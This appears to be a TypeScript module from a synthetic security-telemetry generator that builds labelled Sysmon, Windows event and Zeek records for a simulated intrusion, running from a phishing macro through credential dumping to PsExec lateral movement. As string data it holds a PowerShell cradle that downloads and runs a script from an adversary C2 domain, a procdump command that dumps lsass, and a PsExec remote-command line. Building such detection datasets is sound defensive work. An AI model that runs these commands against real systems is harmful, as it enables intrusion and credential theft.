import { hostOf } from '../benign/context';
import { outbound } from '../benign/network';
import { childOf, sessionOf, systemProc, type Session } from '../benign/session';
import { psEncode } from '../format';
import { IMAGES, type ImageMeta } from '../emit/images';
import { makeProc, sysmon1, sysmon10, sysmon11, sysmon3, type Proc } from '../emit/sysmon';
import { logon4624, privileges4672, winEvent, type WinAccount } from '../emit/windows';
import { zeekConn, zeekUid } from '../emit/zeek';
import type { Host, User } from '../world/types';
import { at, label, type ChainCtx } from './chain';

const IMG = IMAGES as Record<string, ImageMeta>;

interface Foothold {
  host: Host;
  user: User;
  session: Session;
  ps: Proc;
}

/** Steps 1-2: a macro document from mail spawns encoded PowerShell (T1566.001, T1204.002, T1059.001). */
function phish(c: ChainCtx, user: User, host: Host): Foothold {
  const { sink, rng, world } = c;
  const day = Math.floor((c.t0 + user.home.offsetMin * 60_000) / 86_400_000);
  const session = sessionOf(world, host, user, day);
  const doc = `C:\\Users\\${user.sam}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${rng.b62(8).toUpperCase()}\\Invoice_${rng.int(10_000, 99_999)}.docm`;
  let t = at(c, 0);
  sink.add(t, 'windows', sysmon11(host, t, session.apps.outlook, doc), label(c, 1, 'T1566.001', 'initial-access'));
  t = at(c, 2);
  const word = childOf(host, session.apps.outlook, `chain:${c.chainId}:word`, IMG['winword'] as ImageMeta, `"%IMAGE%" /n "${doc}" /o ""`, user.sam);
  sink.add(t, 'windows', sysmon1(host, t, word, session.apps.outlook), label(c, 1, 'T1204.002', 'execution'));
  const cradle = `$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString('https://${world.adversary.c2Domain}/s/a.ps1')`;
  const ps = childOf(host, word, `chain:${c.chainId}:ps`, IMG['powershell'] as ImageMeta, `powershell.exe -nop -w hidden -ep bypass -enc ${psEncode(cradle)}`, user.sam);
  t = at(c, 2.3);
  sink.add(t, 'windows', sysmon1(host, t, ps, word), label(c, 2, 'T1059.001', 'execution'));
  sink.add(t + 800, 'windows', winEvent(t + 800, { host, channel: 'Microsoft-Windows-PowerShell/Operational', eventId: 4104, level: 3, userSid: user.sid, data: { MessageNumber: 1, MessageTotal: 1, ScriptBlockText: cradle, ScriptBlockId: rng.uuid(), Path: '' } }), label(c, 2, 'T1059.001', 'execution'));
  return { host, user, session, ps };
}

/** Step 3: the cradle fetches a second stage and drops a tool (T1105). */
function download(c: ChainCtx, f: Foothold): void {
  const { sink, world } = c;
  const adv = world.adversary;
  const l = label(c, 3, 'T1105', 'command-and-control');
  const t = at(c, 2.6);
  outbound(c, f.host, f.ps, t, { domain: adv.c2Domain, ip: adv.c2Ip, port: 443 }, l);
  outbound(c, f.host, f.ps, at(c, 6), { domain: adv.phishDomain, ip: adv.phishIp, port: 80, http: { method: 'GET', uri: '/dl/pd64.exe', ua: 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.5247', status: 200, mime: 'application/x-dosexec', respLen: 428_512 } }, l);
  const t2 = at(c, 6.2);
  sink.add(t2, 'windows', sysmon11(f.host, t2, f.ps, 'C:\\Users\\Public\\pd64.exe'), l);
  sink.add(t2 + 500, 'windows', sysmon11(f.host, t2 + 500, f.ps, 'C:\\Users\\Public\\PsExec64.exe'), l);
}

/** Step 4: dump lsass with a renamed procdump (T1003.001). */
function dumpLsass(c: ChainCtx, f: Foothold): void {
  const { sink } = c;
  const l = label(c, 4, 'T1003.001', 'credential-access');
  const t = at(c, 20);
  const cmd = childOf(f.host, f.ps, `chain:${c.chainId}:cmd`, IMG['cmd'] as ImageMeta, 'C:\\Windows\\system32\\cmd.exe /c C:\\Users\\Public\\pd64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\lsass.dmp', f.user.sam, 'High');
  sink.add(t, 'windows', sysmon1(f.host, t, cmd, f.ps), l);
  const pd = childOf(f.host, cmd, `chain:${c.chainId}:pd`, IMG['procdump'] as ImageMeta, 'C:\\Users\\Public\\pd64.exe  -accepteula -ma lsass.exe C:\\Users\\Public\\lsass.dmp', f.user.sam, 'High');
  sink.add(t + 300, 'windows', sysmon1(f.host, t + 300, pd, cmd), l);
  const lsass = makeProc(f.host, 'lsass', { meta: IMG['lsass'] as ImageMeta, image: 'C:\\Windows\\system32\\lsass.exe', commandLine: 'C:\\Windows\\system32\\lsass.exe', user: 'NT AUTHORITY\\SYSTEM', logonId: 0x3e7, logonGuid: '', integrity: 'System', cwd: 'C:\\Windows\\system32\\', session: 0 });
  const trace = 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6dfc|C:\\Users\\Public\\pd64.exe+3a9c1|C:\\Windows\\System32\\KERNEL32.DLL+17034|C:\\Windows\\SYSTEM32\\ntdll.dll+52651';
  sink.add(t + 900, 'windows', sysmon10(f.host, t + 900, pd, lsass, '0x1fffff', trace), l);
  sink.add(t + 4_000, 'windows', sysmon11(f.host, t + 4_000, pd, 'C:\\Users\\Public\\lsass.dmp'), l);
}

/** Steps 5-6: PsExec with the dumped admin hash to the file server (T1021.002, T1569.002). */
function lateral(c: ChainCtx, f: Foothold): void {
  const { sink, rng, world } = c;
  const target = hostOf(c, 'KST-FS01');
  const admin = world.users.find((u) => u.admin) as User;
  const acct: WinAccount = { sid: `${world.company.domainSid}-${1500 + admin.index}`, name: `adm-${admin.sam}`, domain: world.company.adDomain };
  const lm = label(c, 5, 'T1021.002', 'lateral-movement');
  const t = at(c, 40);
  const psexec = childOf(f.host, f.ps, `chain:${c.chainId}:psexec`, IMG['psexec'] as ImageMeta, `C:\\Users\\Public\\PsExec64.exe -accepteula \\\\${target.name} -s cmd.exe /c "whoami & ipconfig /all & net group \\"Domain Admins\\" /domain"`, f.user.sam, 'High');
  sink.add(t, 'windows', sysmon1(f.host, t, psexec, f.ps), lm);
  const src = rng.int(49_700, 64_000);
  sink.add(t + 200, 'windows', sysmon3(f.host, t + 200, psexec, { srcIp: f.host.ip, srcPort: src, dstIp: target.ip, dstPort: 445, dstHost: target.fqdn, protocol: 'tcp' }), lm);
  sink.add(t + 200, 'zeek', zeekConn(t + 200, { uid: zeekUid(rng), src: f.host.ip, srcPort: src, dst: target.ip, dstPort: 445, proto: 'tcp', service: 'smb,ntlm', duration: 14.2, origBytes: 412_330, respBytes: 18_204 }), lm);
  const logonId = rng.int(0x200000, 0x7fffffff);
  sink.add(t + 400, 'windows', winEvent(t + 400, { host: target, channel: 'Security', eventId: 4624, data: logon4624(target, { target: acct, logonId, logonType: 3, auth: 'NTLM', workstation: f.host.name, ip: f.host.ip, port: src, logonGuid: '', processName: '-', elevated: true }) }), label(c, 5, 'T1550.002', 'lateral-movement'));
  sink.add(t + 400, 'windows', winEvent(t + 400, { host: target, channel: 'Security', eventId: 4672, data: privileges4672(acct, logonId) }), lm);
  const ex = label(c, 6, 'T1569.002', 'execution');
  sink.add(t + 1_500, 'windows', winEvent(t + 1_500, { host: target, channel: 'System', eventId: 7045, userSid: acct.sid, data: { ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' } }), ex);
  const services = systemProc(target, 'services', IMG['services'] as ImageMeta, 'C:\\Windows\\system32\\services.exe');
  const svc = systemProc(target, `chain:${c.chainId}:psexesvc`, IMG['psexesvc'] as ImageMeta, 'C:\\Windows\\PSEXESVC.exe');
  sink.add(t + 1_700, 'windows', sysmon1(target, t + 1_700, svc, services), ex);
  const shell = systemProc(target, `chain:${c.chainId}:rcmd`, IMG['cmd'] as ImageMeta, 'cmd.exe /c "whoami & ipconfig /all & net group "Domain Admins" /domain"');
  sink.add(t + 2_100, 'windows', sysmon1(target, t + 2_100, shell, svc), ex);
}

/** Endpoint chain: phishing document to lateral movement with PsExec. */
export function endpointChain(c: ChainCtx): void {
  const candidates = c.world.users.filter((u) => u.os === 'windows' && !u.admin);
  const user = c.rng.pick(candidates.length > 0 ? candidates : c.world.users.filter((u) => u.os === 'windows'));
  const host = hostOf(c, user.workstation);
  const f = phish(c, user, host);
  download(c, f);
  dumpLsass(c, f);
  lateral(c, f);
}
